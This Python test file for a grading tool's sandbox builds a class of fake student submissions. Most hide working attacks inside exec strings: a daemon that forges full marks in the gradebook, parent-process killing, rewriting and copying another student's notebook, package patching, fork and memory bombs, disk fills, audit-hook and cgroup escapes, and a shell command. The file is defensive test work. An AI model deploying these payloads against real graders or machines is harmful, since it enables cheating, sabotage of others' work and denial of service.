"""The escape suite: a knowing student's attacks on grading, through nbgrader's exchange and autograde.

One class hands in A2 through nbgrader's real exchange (module-scoped, built
once, in the background from the session's start: tests/prebuilt.py): two honest
students, ``correct`` and ``victim``, and one student per attack, each payload
inside ``exec`` of a string in an ordinary cell (so no scan of the source sees
it). The submissions are then graded three times, each in its own folder ``RUN``
(the course, a copy of the ``gametrees`` package that the grading imports
through ``PYTHONPATH``, and ``RUN/outside`` for canaries):

* ``iso``: ``python -m gametrees.assignments autograde COURSE A2 --jobs 2`` behind
  the operating system's walls (bubblewrap, the default): every attack must be
  contained (its attacked questions 0 or flagged, no other student's grade or
  file changed, nothing written outside the sandbox's scratch folder, the package
  unchanged, nothing left running, the command ends with the status it promises);
* ``unsafe``: the same attacks (not the bombs and fills) with ``--unsafe-no-isolation``:
  each attack's effect must be seen, so the tests prove the walls, not the
  attacks' failure (the killer alone, ``--jobs 1``);
* ``unpriv``: a few of them graded by an unprivileged account, as on a course hub
  (made with ``useradd`` when the tests run as root; no cgroup there, rlimits only).

The command line is built in one place, :func:`autograde_command`. Without
bubblewrap on ``PATH`` the command must refuse (exit 2, one line).

Attacks, by student: ``g-frame`` and ``g-gc`` reach the child's audit hook by a
frame walk or ``gc.get_objects()`` and empty it, then use ``gt.alphabeta`` for
Q4/Q5; ``g-importlib`` imports refused modules through ``importlib`` (and runs a
shell); from nbgrader's kernel: ``g-daemon`` (a double-forked daemon that gives
itself full marks in ``gradebook.db`` once grading is done), ``g-killer``
(kills its parent), ``g-rewrite`` (rewrites victim's submission), ``g-copy``
(reads victim's notebook), ``g-patch`` (appends to the installed
``gametrees/classroom/verdicts.py``), ``g-net`` (connects to 127.0.0.1),
``g-canary`` (writes files outside its folder), ``g-linger`` (leaves a process
running), ``g-membomb`` and ``g-forkbomb`` (isolation only, and bounded), ``g-sleep``
(sleeps in every call and in a cell), ``g-forge`` (writes a protocol line to
the grader's channel), three ways to fill what a sandbox shares with the
machine: ``g-stderr`` (512 MB on the kernel's stderr, which the grader reads),
``g-tmpfs`` and ``g-disk`` (4 GB of files under the file-size limit, in the
sandbox's ``/tmp`` and in its folder), and ``g-fifo`` (the executed notebook
the grader reads back made a named pipe). A root kernel without walls also
leaves the grader's cgroups (``g-daemon``, ``g-linger``): a cgroup is no wall.

Nothing of the real machine is touched: the package graded with is a copy
under the test's tmp folder, canaries are under tmp or ``/tmp/gtcanary-*`` (removed),
and every process left behind (found by its marker) is killed at teardown.
"""

import hashlib
import json
import os
import pwd
import re
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import prebuilt
import psutil
import pytest
from test_classroom_flow import _PHASE1, A2, FULL, RIGHT_CODE, RIGHT_Q4, RIGHT_Q5, answers

from gametrees import assignments as ga

pytest.importorskip("nbgrader")
pytestmark = pytest.mark.nbgrader

ROOT = Path(__file__).resolve().parents[1]
#: The limits every grading here runs with (seconds): one call, one question, one submission.
CALL_LIMIT, QUESTION_LIMIT, SUBMISSION_LIMIT = 3, 8, 20
#: How long the grading command may take before the test calls it hung (and kills it).
COMMAND_TIMEOUT = 300
HONEST = ("correct", "victim")

# ============================================================================
# The payloads
# ============================================================================
# "@RUN@" is the grading's folder (each copy of the course gets its own), "@PORT@" the test's listener.

#: What every kernel-side payload starts with: where things are, as a knowing student finds them.
KERNEL = '''import glob, hashlib, json, os, sys, time
RUN = "@RUN@"
TAG = hashlib.sha1(RUN.encode()).hexdigest()[:8]

def course():
    """The course folder: up from the working folder, the grading process's folder, or where it usually is."""
    seen, d = [], os.getcwd()
    while True:
        seen.append(d)
        if os.path.dirname(d) == d:
            break
        d = os.path.dirname(d)
    try:
        seen.append(os.readlink("/proc/%d/cwd" % os.getppid()))
    except OSError:
        pass
    seen.append(RUN + "/course")
    for c in seen:
        if os.path.isfile(os.path.join(c, "gradebook.db")):
            return c
    return RUN + "/course"

def victims_notebooks():
    return glob.glob(os.path.join(course(), "submitted", "victim", "A2", "*.ipynb"))

# Out of the grader's cgroups, into the machine's own (a root account may; a sandbox has no /sys).
LEAVE = """import glob, os
def leave_cgroups():
    for procs in glob.glob("/sys/fs/cgroup/*/cgroup.procs") + ["/sys/fs/cgroup/cgroup.procs"]:
        try:
            with open(procs, "w") as f:
                f.write(str(os.getpid()))
        except OSError:
            pass
"""
exec(LEAVE)
'''

#: The daemon's program (run by the double-forked process): waits for grading to end, then full marks.
DAEMON = '''import os, sys, time, sqlite3
course, me, run = sys.argv[1:4]
key = ("gametrees" + ".assignments").encode()
end = time.time() + 150

def grading():
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != os.getpid():
            try:
                cmd = open("/proc/%s/cmdline" % p, "rb").read()
            except OSError:
                continue
            if key in cmd and b"autograde" in cmd and course.encode() in cmd:
                return True
    return False

time.sleep(1)
while grading() and time.time() < end:
    time.sleep(0.3)
time.sleep(0.5)
db = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=30)
mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
        "WHERE sa.student_id = ?")
full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
db.execute("UPDATE grade SET auto_score = " + full + ", manual_score = NULL "
           "WHERE notebook_id IN (" + mine + ")", (me,))
db.execute("UPDATE submitted_notebook SET flagged = 0 WHERE id IN (" + mine + ")", (me,))
db.commit()
open(os.path.join(run, "outside", "daemon-done"), "w").write("full marks")
'''

KERNEL_ATTACKS = {
    "g-daemon": f'''where = course()
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        leave_cgroups()
        if os.fork() == 0:
            fd = os.open(os.devnull, os.O_RDWR)
            for k in (0, 1, 2):
                os.dup2(fd, k)
            os.closerange(3, 4096)
            os.execv(sys.executable, [sys.executable, "-c", {DAEMON!r}, where, "g-daemon", RUN,
                                      "gtdaemon-" + TAG])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
print("daemon started for", where)
''',
    "g-killer": '''p = os.getppid()
try:
    cmd = open("/proc/%d/cmdline" % p, "rb").read().replace(b"\\0", b" ").decode(errors="replace")
except OSError:
    cmd = "?"
try:
    open(RUN + "/outside/killed", "w").write("%d %s" % (p, cmd))
except OSError:
    pass
if p > 1:
    os.kill(p, 9)
''',
    "g-rewrite": '''found = victims_notebooks()
print("found %d notebooks of victim" % len(found))
for path in found:
    try:
        nb = json.load(open(path))
        for cell in nb["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "a2-q4-answer":
                cell["source"] = ("def alphabeta_value(game, state, alpha, beta):\\n"
                                  "    return 0  # rewritten by g-rewrite\\n")
        json.dump(nb, open(path, "w"))
        print("rewrote", path)
    except OSError as exc:
        print("could not rewrite", path, exc)
''',
    "g-copy": '''STOLEN = {}
for path in victims_notebooks():
    try:
        for cell in json.load(open(path))["cells"]:
            gid = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if gid in ("a2-q4-answer", "a2-q5-answer"):
                STOLEN[gid] = "".join(cell["source"])
    except OSError as exc:
        print("could not read", path, exc)
for gid, source in STOLEN.items():
    print("copied", gid, source)
    exec(source, globals())
print("copied", len(STOLEN), "answers")
''',
    "g-patch": '''path = os.path.join(os.path.dirname(gt.__file__), "classroom", "verdicts.py")
try:
    with open(path, "a") as f:
        f.write("\\n# patched by g-patch " + RUN + "\\n")
    print("patched", path)
except OSError as exc:
    print("could not patch", path, exc)
''',
    "g-net": '''import socket
try:
    s = socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
    s.sendall(("g-net " + RUN + "\\n").encode())
    s.close()
    print("connected")
except OSError as exc:
    print("no network:", exc)
''',
    "g-canary": '''where = (RUN + "/outside/canary-kernel", "/tmp/gtcanary-" + TAG,
         course() + "/canary-course")
for path in where:
    try:
        open(path, "w").write("g-canary")
        print("wrote", path)
    except OSError as exc:
        print("could not write", path, exc)
''',
    "g-linger": '''import subprocess
program = LEAVE + "leave_cgroups()\\nimport time\\ntime.sleep(90)\\n"
subprocess.Popen([sys.executable, "-c", program, "gtlinger-" + TAG],
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                 start_new_session=True)
print("left a process running")
''',
    # 48 blocks of 64 MB (3 GB), touched: a limit stops it before, or the machine (24 GB) survives it.
    "g-membomb": '''held = []
try:
    while len(held) < 48:
        held.append(b"\\1" * (64 << 20))
except MemoryError:
    pass
print("memory bomb held %d MB" % (64 * len(held)))
del held
''',
    # Every process forks again, up to 400 in all (a shared count), for 10 s; each then sleeps 10 s and exits.
    "g-forkbomb": '''import ctypes, mmap
shared = mmap.mmap(-1, 9)
count = lambda: int.from_bytes(shared[:8], "little")
libc, root, end = ctypes.CDLL(None), os.getpid(), time.time() + 10
while time.time() < end and count() < 400:
    try:
        pid = os.fork()
    except OSError:
        shared[8] = 1
        break
    if pid == 0:
        libc.prctl(15, ("gtbomb" + TAG).encode(), 0, 0, 0)
        fd = os.open(os.devnull, os.O_RDWR)
        for k in (0, 1, 2):
            os.dup2(fd, k)
        shared[:8] = (count() + 1).to_bytes(8, "little")
if os.getpid() != root:
    time.sleep(max(0.0, end + 10 - time.time()))
    os._exit(0)
print("fork bomb: %d processes, fork refused: %s" % (count(), "yes" if shared[8] else "no"))
''',
    # Written to the kernel's stderr, which reaches the grader (512 MB in 1 MB writes).
    "g-stderr": '''chunk = b"e" * (1 << 20)
for _ in range(512):
    os.write(2, chunk)
print("wrote 512 MB to stderr")
''',
    # Files of 32 MB (under the file-size limit) up to 4 GB: in the sandbox's /tmp (memory), its folder.
    "g-tmpfs": '''made = 0
try:
    for i in range(128):
        with open("/tmp/fill%d" % i, "wb") as f:
            f.write(b"\\1" * (32 << 20))
        made += 32
except (OSError, MemoryError) as exc:
    print("stopped:", exc)
print("tmpfs held %d MB" % made)
for i in range(128):
    try:
        os.remove("/tmp/fill%d" % i)
    except OSError:
        pass
''',
    "g-disk": '''made = 0
try:
    for i in range(128):
        with open("fill%d" % i, "wb") as f:
            f.write(b"\\1" * (32 << 20))
        made += 32
except (OSError, MemoryError) as exc:
    print("stopped:", exc)
print("disk held %d MB" % made)
for i in range(128):
    try:
        os.remove("fill%d" % i)
    except OSError:
        pass
''',
    # The executed notebook the grader reads back made a named pipe (a daemon drains what the run writes into
    # it, so the run ends normally): a reader of the path then waits for a writer that never comes.
    "g-fifo": '''out, d = None, os.getcwd()
while out is None and os.path.dirname(d) != d:  # the run's folder: where in.ipynb is, up from here
    if os.path.exists(os.path.join(d, "in.ipynb")):
        out = os.path.join(d, "out.ipynb")
    d = os.path.dirname(d)
for p in os.listdir("/proc"):  # or the run's own command line: the argument after in.ipynb
    try:
        args = open("/proc/%s/cmdline" % p, "rb").read().decode(errors="replace").split("\\0")
    except OSError:
        continue
    for a, b in zip(args, args[1:]):
        if out is None and a.endswith("in.ipynb") and b.endswith(".ipynb"):
            out = b
out = out or os.path.join(os.path.dirname(os.getcwd()), "out.ipynb")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 120
        if not os.path.exists(out):
            os.mkfifo(out)
        while time.time() < end:
            with open(out, "rb") as f:
                while f.read(1 << 16):
                    pass
    os._exit(0)
print("a pipe in place of", out)
''',
}

#: Child-side: the ways to the child's audit hook, each emptying it through the hook's closure.
ESCAPES = {
    "g-frame": '''f = sys._getframe()
    while f is not None and "hook" not in f.f_locals:  # a caller that keeps the hook in its locals
        f = f.f_back
    if f is not None:
        _empty(f.f_locals["hook"])
    else:  # else the hook's own frame, in the traceback of what it refused, its report silenced
        child, g = None, sys._getframe()
        while g is not None and child is None:  # the object that serves the grader, and its send
            me = g.f_locals.get("self")
            if hasattr(me, "report") and hasattr(me, "send"):
                child = me
            g = g.f_back
        if child is not None:
            child.send = lambda msg: None
        tb = None
        try:
            open("/")
        except Exception as exc:  # refused (or, once the hook is empty, a folder)
            tb = exc.__traceback__
        finally:
            if child is not None:
                del child.send
        while tb is not None and tb.tb_frame.f_code.co_name != "hook":
            tb = tb.tb_next
        if tb is not None:
            for v in tb.tb_frame.f_locals.values():
                if type(v) is set:
                    v.clear()  # "import" no longer refused: the function that owns the frame's code
            for o in __import__("gc").get_referrers(tb.tb_frame.f_code):
                if type(o).__name__ == "function":
                    _empty(o)
    import site
    site.main()
    sys.path.insert(0, RUN + "/pkg")
    import gametrees
    return gametrees''',
    "g-gc": '''gc = sys.modules["_frozen_importlib"]._gcd_import("gc")
    for o in gc.get_objects():
        if type(o).__name__ == "function" and o.__name__ == "hook" and o.__closure__:
            _empty(o)
    import site
    site.main()
    sys.path.insert(0, RUN + "/pkg")
    import gametrees
    return gametrees''',
    "g-importlib": '''importlib = sys.modules["_frozen_importlib"]._gcd_import("importlib")
    gc = importlib.import_module("gc")
    for o in gc.get_objects():
        if type(o).__name__ == "function" and o.__name__ == "hook" and o.__closure__:
            _empty(o)
    importlib.import_module("site").main()
    sys.path.insert(0, RUN + "/pkg")
    try:
        shell = "id > " + RUN + "/outside/shell-g-importlib"
        importlib.import_module("subprocess").run(["/bin/sh", "-c", shell])
    except Exception:
        pass
    return importlib.import_module("gametrees")''',
}

ESCAPE = '''import sys
RUN = "@RUN@"

def _empty(hook):
    for cell in hook.__closure__ or ():
        v = cell.cell_contents
        if type(v) is set:
            v.clear()
        elif type(v) is tuple:
            cell.cell_contents = ()

def _open_up():
    sys.dont_write_bytecode = True
    @HOW@

def _plain(gt, game):
    class Plain(gt.Game):
        is_terminal, utility = staticmethod(game.is_terminal), staticmethod(game.utility)
        to_move, actions = staticmethod(game.to_move), staticmethod(game.actions)
        result = staticmethod(game.result)
    return Plain()

def alphabeta_value(game, state, alpha, beta):
    gt = _open_up()
    return gt.alphabeta(_plain(gt, game), state).value
'''
ESCAPE_Q5 = '''def alphabeta_best_move(game, state):
    gt = _open_up()
    return gt.alphabeta(_plain(gt, game), state).move
'''

RIGHT_INNER = RIGHT_Q4.replace("alphabeta_value", "_right")
FORGE = RIGHT_INNER + '''

import sys

def alphabeta_value(game, state, alpha, beta):
    sys.__stdout__.write('{"op": "ret", "v": 0}\\n')
    sys.__stdout__.flush()
    return _right(game, state, alpha, beta)
'''
MEMBOMB_Q4 = '''def alphabeta_value(game, state, alpha, beta):
    held = []
    while len(held) < 48:
        held.append(b"\\1" * (64 << 20))
    return 0
'''
SLEEPY_Q4 = "import time\n\n" + RIGHT_INNER + '''

def alphabeta_value(game, state, alpha, beta):
    time.sleep(0.6)
    return _right(game, state, alpha, beta)
'''


def _kernel_cell(body):
    """A cell that runs ``body`` in nbgrader's kernel only (the grader's child has no ``gt``), in a string."""
    return 'if "gt" in globals():\n    exec(' + repr(KERNEL + body) + ")\n"


def _exec_cell(source):
    return "exec(" + repr(source) + ")\n"


def _sleepy(source):
    """An answer whose function sleeps 0.6 s before it returns."""
    head, _, body = source.partition("\n")
    return "import time\n\n" + head + "\n    time.sleep(0.6)\n" + body


def _by_hand(student):
    a = answers(student)
    return {k: a[k] for k in ("a2-q1-answer", "a2-q2-answer", "a2-q3-answer")}


def _plan(secret):
    """grade id -> source for every student (``extra``: cells the student added after the id cell)."""
    plan = {
        "correct": {**_by_hand("correct"), **RIGHT_CODE},
        "victim": {**_by_hand("victim"), **RIGHT_CODE,
                   "a2-q5-answer": RIGHT_Q5 + f"\n    # my own work: {secret}"},
        "g-daemon": {"extra": [_kernel_cell(KERNEL_ATTACKS["g-daemon"])]},  # nothing answered: 0 of 11
        "g-forge": {**_by_hand("g-forge"), **RIGHT_CODE, "a2-q4-answer": _exec_cell(FORGE)},
        "g-sleep": {**{k: _sleepy(v) for k, v in _by_hand("g-sleep").items()}, "a2-q4-answer": SLEEPY_Q4,
                    "a2-q5-answer": _sleepy(RIGHT_Q5),
                    "extra": ['if "gt" in globals():\n    import time\n    time.sleep(600)\n']},
    }
    for student, how in ESCAPES.items():
        plan[student] = {**_by_hand(student),
                         "a2-q4-answer": _exec_cell(ESCAPE.replace("@HOW@", how)),
                         "a2-q5-answer": _exec_cell(ESCAPE_Q5)}
    for student in ("g-killer", "g-rewrite", "g-copy", "g-patch", "g-net", "g-canary", "g-linger",
                    "g-membomb", "g-forkbomb", "g-stderr", "g-tmpfs", "g-disk", "g-fifo"):
        plan[student] = {**_by_hand(student), **RIGHT_CODE, "extra": [_kernel_cell(KERNEL_ATTACKS[student])]}
    plan["g-copy"].update({"a2-q4-answer": '_stolen = globals().get("STOLEN", {}).get("a2-q4-answer", "")\n'
                                           "exec(_stolen)\n",
                           "a2-q5-answer": '_stolen = globals().get("STOLEN", {}).get("a2-q5-answer", "")\n'
                                           "exec(_stolen)\n"})
    plan["g-membomb"]["a2-q4-answer"] = _exec_cell(MEMBOMB_Q4)
    return plan


#: Graded with isolation only: the bombs and fills (never without walls), the killer (alone, below), the
#: sleeper and the forger (its check is the grader's channel, the same without walls).
ISOLATED_ONLY = ("g-membomb", "g-forkbomb", "g-killer", "g-sleep", "g-forge", "g-stderr", "g-tmpfs", "g-disk",
                 "g-fifo")

# ============================================================================
# The command, the folders, the processes
# ============================================================================


def _env(run):
    drop = (ga.ENV_VAR, "NBGRADER_EXECUTION", "JUPYTERHUB_USER")
    env = {k: v for k, v in os.environ.items() if k not in drop}
    env["PATH"] = os.path.dirname(sys.executable) + os.pathsep + env.get("PATH", "")  # nbgrader runs alembic
    env["PYTHONPATH"] = str(run / "pkg")  # the copy: gametrees.__file__ in every process is under RUN
    env["GAMETREES_CHECK_LIMIT"] = "3"
    return env


_HELP = {}


def _autograde_help():
    if "text" not in _HELP:
        done = subprocess.run([sys.executable, "-m", "gametrees.assignments", "autograde", "--help"],
                              capture_output=True, text=True, timeout=120, check=False,
                              env={**os.environ, "PYTHONPATH": str(ROOT)})
        _HELP["text"] = done.stdout
    return _HELP["text"]


def has_walls():
    """Whether this version of the command grades behind walls (it has ``--unsafe-no-isolation``)."""
    return "--unsafe-no-isolation" in _autograde_help()


def autograde_command(course, *, isolation=True, jobs=2, students=None):
    """The one grading command, as an instructor types it (the limit options where this version has them)."""
    argv = [sys.executable, "-m", "gametrees.assignments", "autograde", str(course), "A2",
            "--jobs", str(jobs), "--call-limit", str(CALL_LIMIT)]
    text = _autograde_help()
    for option, value in (("--question-limit", QUESTION_LIMIT), ("--submission-limit", SUBMISSION_LIMIT)):
        if option in text:
            argv += [option, str(value)]
    if not isolation and "--unsafe-no-isolation" in text:
        argv.append("--unsafe-no-isolation")
    for student in students or ():
        argv += ["--student", student]
    return argv


def run_command(argv, run, env, *, timeout=COMMAND_TIMEOUT, user=None):
    """Run the command, its output to files (a process it leaves holds no pipe open); killed at timeout."""
    out, err = run / "command.out", run / "command.err"
    as_user = {} if user is None else {"user": user.pw_uid, "group": user.pw_gid, "extra_groups": []}
    t0 = time.monotonic()
    with open(out, "wb") as fo, open(err, "wb") as fe:
        proc = subprocess.Popen(argv, stdout=fo, stderr=fe, env=env, cwd=run, start_new_session=True,
                                **as_user)
        watch = Watch(proc.pid)
        try:
            code = proc.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)  # the group this test started
            proc.wait()
            code = None
        finally:
            watch.stop()
    return {"code": code, "seconds": time.monotonic() - t0, "stdout": out.read_text(errors="replace"),
            "stderr": err.read_text(errors="replace"), "grader_mb": watch.peak >> 20,
            "disk_mb": (watch.free - watch.lowest) >> 20}


class Watch:
    """While a grading runs (sampled 5 times a second): the largest resident memory of one grading process
    outside the sandboxes, and the most disk the machine's temporary folder lost."""

    def __init__(self, pid):
        self.pid, self.peak = pid, 0
        self.free = self.lowest = shutil.disk_usage(tempfile.gettempdir()).free
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def _outside(self, proc):
        """Whether ``proc`` runs outside every sandbox (no ``bwrap`` between it and the command)."""
        while proc is not None and proc.pid != self.pid:
            if proc.name() == "bwrap":
                return False
            proc = proc.parent()
        return proc is not None

    def _watch(self):
        while not self._stop.wait(0.2):
            self.lowest = min(self.lowest, shutil.disk_usage(tempfile.gettempdir()).free)
            try:
                top = psutil.Process(self.pid)
                for proc in [top, *top.children(recursive=True)]:
                    if self._outside(proc):
                        self.peak = max(self.peak, proc.memory_info().rss)
            except psutil.Error:
                continue

    def stop(self):
        self._stop.set()
        self._thread.join()


def tag(run):
    return hashlib.sha1(str(run).encode()).hexdigest()[:8]


def leftovers(run):
    """Processes a grading in ``run`` started that are still there: by marker, command line or folder."""
    markers = (f"gtlinger-{tag(run)}", f"gtdaemon-{tag(run)}", f"gtbomb{tag(run)}", str(run))
    mine = {os.getpid()} | {p.pid for p in psutil.Process().parents()}
    found = []
    for p in psutil.process_iter(["pid", "name", "cmdline", "cwd", "status"]):
        if p.info["pid"] in mine or p.info["status"] == psutil.STATUS_ZOMBIE:
            continue
        text = " ".join([p.info["name"] or "", *(p.info["cmdline"] or []), p.info["cwd"] or ""])
        hits = [m for m in markers if m in text]
        if hits:
            found.append((p.info["pid"], hits[0], text[:200]))
    return found


def kill_leftovers(run):
    for pid, _, _ in leftovers(run):
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def digest(folder):
    """sha256 of every file under ``folder``, by relative path."""
    folder = Path(folder)
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def canaries(run):
    outside = run / "outside"
    return [outside / "canary-kernel", Path(f"/tmp/gtcanary-{tag(run)}"), run / "course" / "canary-course",
            outside / "shell-g-importlib", outside / "daemon-done", outside / "killed"]


class Listener:
    """A TCP server on 127.0.0.1 that keeps what every connection sends."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.3)
        self.port = self.sock.getsockname()[1]
        self.received = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(4096).decode(errors="replace"))
            except OSError:
                self.received.append("")
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """The class through nbgrader's exchange (:func:`_build_class`), and the listener its payloads call."""
    got = prebuilt.result("isolation_class", tmp_path_factory.mktemp)
    yield got
    got["listener"].close()


@pytest.fixture(scope="module")
def listener(built):
    return built["listener"]


def _class_plan():
    """The listener and the students' cells, with their secret (in the main thread, before the background
    build starts)."""
    listener = Listener()
    secret = "SECRET-" + secrets.token_hex(8)
    try:
        plan = json.loads(json.dumps(_plan(secret)).replace("@PORT@", str(listener.port)))
    except BaseException:
        listener.close()
        raise
    return listener, secret, plan


@prebuilt.prebuild("isolation_class", needed_by="built", prepare=_class_plan)
def _build_class(tmp, planned):
    """The class through nbgrader's exchange: each student fetches, edits, submits; the teacher collects
    (built in the background from the session's start, tests/prebuilt.py)."""
    listener = planned[0]
    try:
        return _exchange(tmp, *planned)
    except BaseException:
        listener.close()
        raise


def _exchange(tmp, listener, secret, plan):
    root, exchange, homes = tmp / "build" / "course", tmp / "build" / "exchange", tmp / "build" / "homes"
    (root / "source" / "A2").mkdir(parents=True)
    exchange.mkdir(mode=0o777)
    exchange.chmod(0o777)
    homes.mkdir()
    (root / "nbgrader_config.py").write_text(
        "c = get_config()\nc.CourseDirectory.course_id = 'gametrees'\n"
        f"c.Exchange.root = {str(exchange)!r}\nc.Execute.timeout = 60\n")
    nbformat.write(nbformat.read(A2, as_version=4), root / "source" / "A2" / A2.name)
    env = _env(tmp)
    env["PYTHONPATH"] = str(ROOT)
    argv = [sys.executable, "-c", _PHASE1, str(root), str(exchange), str(homes), json.dumps(plan)]
    out = subprocess.run(argv, capture_output=True, text=True, timeout=600, env=env, check=False)
    assert out.returncode == 0, out.stdout[-3000:] + out.stderr[-3000:]
    return {"tmp": tmp, "course": root, "secret": secret, "students": sorted(plan), "listener": listener}


def make_run(built, run, students):
    """``RUN``: a copy of the course with only ``students``' submissions (their payloads pointed at ``RUN``),
    a copy of the package (compiled), and an empty ``outside`` folder."""
    course = run / "course"
    shutil.copytree(built["course"], course, ignore=shutil.ignore_patterns("submitted"))
    for student in students:
        src = built["course"] / "submitted" / student
        shutil.copytree(src, course / "submitted" / student)
        for nb in (course / "submitted" / student).rglob("*.ipynb"):
            nb.write_text(nb.read_text(encoding="utf-8").replace("@RUN@", str(run)), encoding="utf-8")
    shutil.copytree(ROOT / "gametrees", run / "pkg" / "gametrees",
                    ignore=shutil.ignore_patterns("__pycache__"))
    subprocess.run([sys.executable, "-m", "compileall", "-q", str(run / "pkg")], check=True, timeout=300)
    (run / "outside").mkdir()
    return run


def gradebook(course, students):
    """{student: ({grade id: score}, flagged)} from nbgrader's gradebook."""
    from nbgrader.api import Gradebook, MissingEntry

    out = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", course_id="gametrees") as gb:
        for student in students:
            try:
                sub = gb.find_submission("A2", student)
            except MissingEntry:
                out[student] = ({}, False)
                continue
            out[student] = ({g.name: g.score for nb_ in sub.notebooks for g in nb_.grades},
                            any(nb_.flagged for nb_ in sub.notebooks))
    return out


def autograded(run, student):
    """The autograded notebook of ``student`` (None when there is none)."""
    path = run / "course" / "autograded" / student / "A2" / A2.name
    return nbformat.read(path, as_version=4) if path.is_file() else None


def outputs(run, student):
    nb = autograded(run, student)
    if nb is None:
        return ""
    return "\n".join(json.dumps(c.get("outputs", [])) for c in nb.cells if c.cell_type == "code")


def verdicts(run, student):
    nb = autograded(run, student)
    meta = nb.metadata.get("gametrees", {}) if nb is not None else {}
    return {v["grade_id"]: v for v in meta.get("verdicts", [])}, meta


def grade_run(built, run, students, *, isolation, jobs=2, user=None, wait_for=None):
    """Copy, grade, and read back: the command's outcome, leftovers, gradebook, hashes before and after."""
    make_run(built, run, students)
    env = _env(run)
    if user is not None:
        home = run / "home"
        home.mkdir()
        env["HOME"] = str(home)
        for path in [run, *run.rglob("*")]:
            os.chown(path, user.pw_uid, user.pw_gid, follow_symlinks=False)
    before = {"submitted": digest(run / "course" / "submitted"), "pkg": digest(run / "pkg")}
    argv = autograde_command(run / "course", isolation=isolation, jobs=jobs)
    got = run_command(argv, run, env, user=user)
    got["left"] = leftovers(run)
    if wait_for is not None:
        end = time.monotonic() + 30
        while not wait_for(run) and time.monotonic() < end:
            time.sleep(0.5)
    else:
        time.sleep(3)  # what a daemon would do once grading is done, it has done by now
    got.update(run=run, secret=built["secret"], before=before, argv=argv,
               grades=gradebook(run / "course", students),
               after={"submitted": digest(run / "course" / "submitted"), "pkg": digest(run / "pkg")},
               canaries=[p for p in canaries(run) if p.exists()])
    return got


def _cleanup(run):
    kill_leftovers(run)
    Path(f"/tmp/gtcanary-{tag(run)}").unlink(missing_ok=True)


def _built():
    """The class (:func:`_build_class`) for a grading built after it (the fixture ``built`` or the
    background thread has built it by then)."""
    return prebuilt.result("isolation_class", lambda name: Path(tempfile.mkdtemp(prefix=name)))


@pytest.fixture(scope="module")
def iso(built, tmp_path_factory):
    """Every submission graded behind the walls (the default isolation), --jobs 2 (:func:`_grade_iso`)."""
    try:
        yield prebuilt.result("isolation_iso", tmp_path_factory.mktemp)
    finally:
        _cleanup(built["tmp"] / "iso")


@prebuilt.prebuild("isolation_iso", needed_by="iso")
def _grade_iso(_folder):
    """The grading behind the walls (in the background from the session's start, after the class)."""
    built = _built()
    if not has_walls():
        pytest.fail("this autograde has no walls (no --unsafe-no-isolation): attacks are not run unconfined")
    return grade_run(built, built["tmp"] / "iso", built["students"], isolation=True)


@pytest.fixture(scope="module")
def unsafe(built, tmp_path_factory):
    """The attacks safe to run (no bombs), graded with --unsafe-no-isolation: each must work
    (:func:`_grade_unsafe`)."""
    try:
        yield prebuilt.result("isolation_unsafe", tmp_path_factory.mktemp)
    finally:
        _cleanup(built["tmp"] / "unsafe")


@prebuilt.prebuild("isolation_unsafe", needed_by="unsafe")
def _grade_unsafe(_folder):
    """The grading without walls (in the background from the session's start, after the class)."""
    built = _built()
    students = [s for s in built["students"] if s not in ISOLATED_ONLY and s != "correct"]
    return grade_run(built, built["tmp"] / "unsafe", students, isolation=False,
                     wait_for=lambda r: (r / "outside" / "daemon-done").exists())


def _summary(got):
    return (f"exit {got['code']} after {got['seconds']:.0f} s\n" + got["stdout"][-3000:]
            + got["stderr"][-3000:]
            + f"\nleft running: {got['left']}\ncanaries: {got['canaries']}")


def _line(got, student):
    """The command's line for ``student``: (earned, points, seconds), or None."""
    pattern = rf"^{re.escape(student)}: ([\d.]+) of ([\d.]+) points.*\(([\d.]+) s\)$"
    m = re.search(pattern, got["stdout"], re.MULTILINE)
    return None if m is None else tuple(float(x) for x in m.groups())


def contained(got, student, gids=("a2-q4-check", "a2-q5-check")):
    """Each of ``gids`` scored 0 or flagged (a student not graded at all counts as contained)."""
    scores, _ = got["grades"][student]
    v, _ = verdicts(got["run"], student)
    return {g: (scores.get(g, 0) or 0) == 0 or bool(v.get(g, {}).get("flags")) for g in gids}


# ============================================================================
# Behind the walls: every attack contained
# ============================================================================


def test_the_command_ends_with_the_status_it_promises(iso):
    got = iso
    assert got["code"] in (0, 1), _summary(got)
    last = got["stdout"].strip().splitlines()[-1]
    if got["code"] == 1:  # one could not be graded: named in the last line, and never an honest student
        assert not any(s in last for s in HONEST), last
        assert any(s in last for s in ISOLATED_ONLY), last
    for student in HONEST:
        assert _line(got, student) is not None and _line(got, student)[:2] == (11, 11), _summary(got)


def test_honest_students_keep_full_marks_and_their_files(iso):
    for student in HONEST:
        assert iso["grades"][student] == (FULL, False), student
